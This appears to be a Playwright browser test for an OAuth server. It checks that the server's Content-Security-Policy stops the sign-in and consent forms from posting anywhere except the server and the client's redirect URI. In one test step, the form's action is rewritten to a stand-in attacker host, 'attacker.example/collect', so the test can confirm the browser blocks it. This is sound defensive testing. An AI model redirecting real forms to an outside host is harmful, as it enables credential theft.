import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startReceiver, type TestServer } from '../harness';
import { startOAuthServer, ThirdPartyClient } from '../oauth/flow';
import { CHROMIUM, CHROMIUM_ARGS } from './browser';

/**
 * The authorization server's own pages in a real browser, which enforces their
 * Content-Security-Policy: forms go to this server only, and on to the request's redirect URI.
 */

let server: TestServer;
let browser: Browser;
let receiver: Awaited<ReturnType<typeof startReceiver>>;

beforeAll(async () => {
  server = await startOAuthServer();
  receiver = await startReceiver();
  browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS, headless: true });
}, 120_000);
afterAll(async () => {
  await browser?.close();
  await receiver?.close();
  await server?.close();
});

describe('the OAuth pages in a browser', () => {
  it('sign in and consent lead to the client, and their forms may post nowhere else', async () => {
    const issuer = server.authDeps.env.ISSUER_URL;
    const client = await ThirdPartyClient.register(issuer, { redirectUri: `${receiver.url}/callback` });
    const request = await client.authorizationRequest();
    const context = await browser.newContext();
    const refused: string[] = [];
    context.on('console', (message) => {
      if (message.text().includes('Content Security Policy')) refused.push(message.text());
    });
    const page = await context.newPage();
    page.setDefaultTimeout(15_000);

    const signIn = await page.goto(request.url);
    const csp = (await signIn?.allHeaders())?.['content-security-policy'] ?? '';
    expect(csp).toContain(`form-action 'self' ${receiver.url};`);
    await page.getByLabel('Email').fill('browser@example.test');
    await page.getByRole('button', { name: 'Email me a sign-in link' }).click();
    // Without mail configured (a loopback development server) the page offers the link itself.
    await page.getByRole('link', { name: 'Continue' }).click();
    await page.getByRole('button', { name: 'Continue' }).click();
    await page.getByRole('button', { name: 'Allow' }).click();
    await page.waitForURL(`${receiver.url}/callback?**`);
    const back = client.callback(page.url(), request.state);
    expect(back.get('code')).toBeTruthy();
    expect(refused).toEqual([]);

    // A form on such a page that posts elsewhere is refused by the browser.
    const blocked = await context.newPage();
    await blocked.goto(request.url);
    await blocked.evaluate(() => {
      const doc = (globalThis as unknown as { document: { forms: { action: string }[] } }).document;
      const form = doc.forms[0] as { action: string; submit: () => void } | undefined;
      if (!form) throw new Error('no form');
      form.action = 'https://attacker.example/collect';
      form.submit();
    });
    await expect.poll(() => refused.some((text) => text.includes('form-action'))).toBe(true);
    expect(blocked.url()).not.toContain('attacker.example');
    await context.close();
  });
});
